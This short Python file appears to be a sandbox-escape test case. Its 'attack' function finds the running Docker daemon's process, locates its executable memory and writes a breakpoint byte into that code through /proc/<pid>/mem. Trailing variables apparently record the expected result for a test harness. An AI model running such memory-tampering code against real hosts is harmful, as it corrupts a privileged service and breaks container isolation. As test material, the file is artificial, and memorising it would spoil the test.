"""Writes into the daemon's program while it runs, which root of a sandbox may.

A daemon that is not as its file says must not be asked.
"""


def attack(client, given):
    from pathlib import Path

    pid = int(Path("/run/docker.pid").read_text())
    with open(f"/proc/{pid}/maps") as maps:
        code = next(line for line in maps if "r-xp" in line and "dockerd" in line)
    end = int(code.split()[0].split("-")[1], 16)
    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
        memory.seek(end - 16)
        memory.write(b"\xcc")
    print("tried")


prints = "tried"
status = "did not run"
says = "changed in memory"
